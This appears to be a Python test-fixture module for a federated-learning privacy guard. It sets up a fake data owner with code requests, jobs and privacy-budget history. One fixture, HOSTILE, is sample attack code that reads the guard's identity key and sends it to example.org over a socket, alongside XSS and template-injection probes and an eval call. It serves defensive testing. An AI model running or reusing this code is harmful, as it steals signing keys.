"""An owner whose review, registry and ledger are real, and whose requests in Syft and running jobs are made up."""

from __future__ import annotations

import hashlib
import random
import time
from collections.abc import Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any
from unittest import mock

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from fl_privacy import template
from fl_privacy.encryption.registry import OwnerCard
from fl_privacy.errors import NotApproved, OrderRefused, PlanError
from fl_privacy.guard import sandbox
from fl_privacy.guard.corpus import add_corpus, card_of
from fl_privacy.guard.domain import Domain
from fl_privacy.guard.enrolment import Enrolment
from fl_privacy.guard.home import GuardHome
from fl_privacy.guard.review import Review, check_approvable, review
from fl_privacy.messages import public_hex, sign
from fl_privacy.privacy.entries import Spend
from tests.builders import OWNERS, enrol_all, text_rows, texts, tiny_bundle, tiny_plan, write_domain

ADA, BEN = (Ed25519PrivateKey.from_private_bytes(bytes([n]) * 32) for n in (1, 2))
ISOLATION = sandbox.Isolation(network="isolated", files="isolated")
TASK = """
import torch.nn.functional as F


def features(text, tokenizer):
    ids = tokenizer.encode(text)
    return {"input_ids": ids, "labels": ids}


def loss(scores, labels):
    return F.cross_entropy(scores, labels)
"""
HOSTILE = '''def train(task, site, datasite):
    """<script>document.title = 'owned'</script><img src=x onerror="document.title='owned'">"""
    import os, socket
    key = open(os.environ["HOME"] + "/guard/keys/identity.json").read()
    print("{{ 7 * 7 }} ${7 * 7} `7`", key)  # \u202e reversed
    socket.create_connection(("example.org", 443)).sendall(key.encode())
    return eval("__import__('pickle')")
'''


@dataclass(frozen=True)
class FakeRequest:
    """As ``datasite.requests.CodeRequest``."""

    number: int
    email: str
    code: str = field(repr=False)
    status: str = "pending"
    reason: str = ""

    @property
    def digest(self) -> str:
        return template.code_digest(self.code)


class FakeOwner:
    """What the console needs of ``fl_privacy.owner.Owner``. ``calls`` lists what it was told to do."""

    def __init__(self, enrolment: Enrolment) -> None:
        home = enrolment.home
        self.home, self.name = home.folder.parent, home.owner
        self.guard = self
        self.calls: list[tuple[Any, ...]] = []
        self.requests: list[FakeRequest] = []
        self.running: list[dict[str, Any]] = []
        self.paused: str | None = None
        self._home, self._enrolment = home, enrolment

    def call(self, method: str, path: str) -> Any:
        assert (method, path) == ("GET", "/v1/status")
        identity = self._home.identity
        return {
            "paused": self.paused,
            "registry": self._enrolment.summary(),
            "keys": self._enrolment.key_names(),
            "signing_key": public_hex(identity.signing_key),
            "fingerprint": OwnerCard.parse(identity.card(self.name).body).fingerprint,
            "sandbox": ISOLATION.model_dump(),
            "package": "5e" * 32,
            "version": "1.2.3",
            "policy": self._home.domain.policy.model_dump(mode="json"),
            "decisions": [
                {"plan": told.name, "verdict": told.verdict, "reason": told.reason, "expires": told.expires}
                for told in self._home.ledger.decisions.values()
            ],
        }

    def submit(self, email: str, code: str, status: str = "pending", reason: str = "") -> FakeRequest:
        request = FakeRequest(len(self.requests) + 1, email, code, status, reason)
        self.requests.append(request)
        return request

    def all_requests(self) -> list[FakeRequest]:
        return list(self.requests)

    def request(self, number: int) -> FakeRequest:
        if not 1 <= number <= len(self.requests):
            raise PlanError(f"there is no request {number}; see `fl-privacy requests list`")
        return self.requests[number - 1]

    def review(self, number: int) -> dict[str, Any]:
        report = self._review(number)
        return report.model_dump(mode="json") | {"objection": report.objection}

    def _review(self, number: int) -> Review:
        return reviewed(self.request(number).code, self._home)

    def approve(self, number: int, days: int | None = None) -> None:
        check_approvable(self._review(number))
        self._decide("approved", number, "", days)

    def deny(self, number: int, reason: str) -> None:
        self._decide("denied", number, reason)

    def revoke(self, number: int, reason: str) -> None:
        if self.request(number).status != "approved":
            raise NotApproved(f"request {number} is not approved")
        self._decide("denied", number, reason)

    def _decide(self, status: str, number: int, reason: str, *more: object) -> None:
        self.calls.append((status, number, reason, *more))
        self.requests[number - 1] = replace(self.request(number), status=status, reason=reason)

    def jobs(self) -> list[dict[str, Any]]:
        for job in self.running:
            if job["state"] == "training":
                job.update(step=min(job["step"] + 1, job["steps"]), seconds=job["seconds"] + 1.0)
        return [dict(job) for job in self.running]

    def stop_job(self, order: str, reason: str) -> None:
        for job in self.running:
            if job["order"] == order and job["state"] == "training":
                job["state"] = "stopped"
                self.calls.append(("stop", order, reason))
                return
        raise OrderRefused(f"order {order[:16]}… is not in training")

    def pause(self, reason: str) -> None:
        self.paused = reason
        self.calls.append(("pause", reason))

    def resume(self) -> None:
        self.paused = None
        self.calls.append(("resume",))

    def ledger(self) -> dict[str, Any]:
        ledger = self._home.ledger
        return {
            "statement": ledger.statement().model_dump(mode="json"),
            "entries": [entry.model_dump(mode="json") for entry in ledger.entries()],
        }


@contextmanager
def fake_owner(folder: Path, history: bool = False) -> Iterator[FakeOwner]:
    """The clinic among three owners that have enrolled; with ``history`` some requests, jobs and spent epsilon."""
    homes = {name: _home(folder, name) for name in OWNERS}
    try:
        enrolments = {name: Enrolment(home) for name, home in homes.items()}
        enrol_all(enrolments)
        owner = FakeOwner(enrolments["clinic"])
        if history:
            _live(owner, homes["clinic"])
        yield owner
    finally:
        for home in homes.values():
            home.close()


def reviewed(code: str, home: GuardHome) -> Review:
    """The guard's review."""
    return review(code, home, card_of(home), ISOLATION)


def code_of(key: Ed25519PrivateKey = ADA, **changes: Any) -> str:
    """The template with a plan."""
    return template.render(sign(tiny_plan(tiny_bundle(), **changes), key))


def job(plan: str, state: str = "training", **changes: Any) -> dict[str, Any]:
    """One line of the guard's jobs."""
    order = hashlib.sha256(repr((plan, state, changes)).encode()).hexdigest()
    fields = {"order": order, "plan": plan, "scientist": public_hex(ADA), "round": 0, "attempt": 0, "state": state}
    fields |= {"purpose": "train", "is_final": False}
    return fields | {"step": 40, "steps": 40, "seconds": 61.0} | changes


def _home(folder: Path, name: str) -> GuardHome:
    with _clock(time.time() - 28 * 86_400):
        home = GuardHome.create(folder / name / "guard", Domain.read(write_domain(folder, name, epsilon=8.0)))
    file = folder / f"{name}.txt"
    file.write_text("\n".join(texts(2000, seed=len(name))), encoding="utf-8")
    add_corpus(home, file, text_rows(20, seed=1))
    return home


def _live(owner: FakeOwner, home: GuardHome) -> None:
    """Three weeks of an owner's life."""
    pilot = code_of(name="pilot", purpose="a first look at how the corpus trains", target_epsilon=1.0, rounds=3)
    fraud = code_of(BEN, name="fraud-words", purpose="find out whether complaints share a vocabulary", rounds=5)
    owner.submit("ada.lin@university.example.org", pilot, "approved")
    owner.submit("ben.okafor@institute.example.org", fraud, "approved")
    owner.submit("mallory@elsewhere.example.org", HOSTILE, "denied", "this is a program that reads keys")
    purpose = "a small language model of complaints, to sort new ones by urgency"
    owner.submit("ada.lin@university.example.org", code_of(name="triage", purpose=purpose, rounds=6, target_epsilon=2.5))
    owner.submit("ada.lin@university.example.org", code_of(name="tokens", task="custom", custom_task=TASK, target_epsilon=1.5))
    owner.submit("ben.okafor@institute.example.org", code_of(BEN, name="greedy", target_epsilon=30.0, rounds=8))
    owner.submit("mallory@elsewhere.example.org", HOSTILE + "\n# again\n")
    _spend(home, pilot, 3)
    _spend(home, fraud, 2)
    owner.running = [
        job("fraud-words", round=2, step=12, steps=400, seconds=31.0, scientist=public_hex(BEN)),
        job("pilot", "failed", round=2, attempt=1, step=17),
        job("fraud-words", "sealed", round=1, scientist=public_hex(BEN)),
        job("fraud-words", "sealed", round=1, scientist=public_hex(BEN), purpose="evaluate", step=10, steps=10),
        *(job("pilot", "sealed", round=index) for index in (2, 1, 0)),
    ]


def _spend(home: GuardHome, code: str, rounds: int) -> None:
    report, ledger, draw = reviewed(code, home), home.ledger, random.Random(code)
    plan = report.plan
    if plan is None:
        raise ValueError("only a plan can be paid for")
    start = time.time() - (20 if rounds == 3 else 9) * 86_400
    for index in range(rounds + 1):
        with _clock(start + index * 130_000 + draw.randint(0, 9999)):
            if index == 0:
                ledger.decide(
                    plan=report.plan_digest,
                    code=report.code_sha256,
                    corpus="0" * 64,
                    package="0" * 64,
                    scientist=report.scientist,
                    name=plan.name,
                    verdict="approved",
                    epsilon=plan.target_epsilon,
                    delta=plan.delta,
                    accountant=plan.accountant,
                    rounds=plan.rounds + plan.retries,
                    expires=int(start) + 40 * 86_400,
                )
                continue
            order = hashlib.sha256(f"{plan.name} {index}".encode()).hexdigest()
            spend = Spend(noise_multiplier=report.noise_multiplier, sample_rate=report.sample_rate, steps=plan.local_steps)
            ledger.reserve(order, report.plan_digest, spend)
            ledger.commit(order)


def _clock(seconds: float) -> AbstractContextManager[object]:
    return mock.patch("fl_privacy.privacy.ledger.time.time", lambda: seconds)
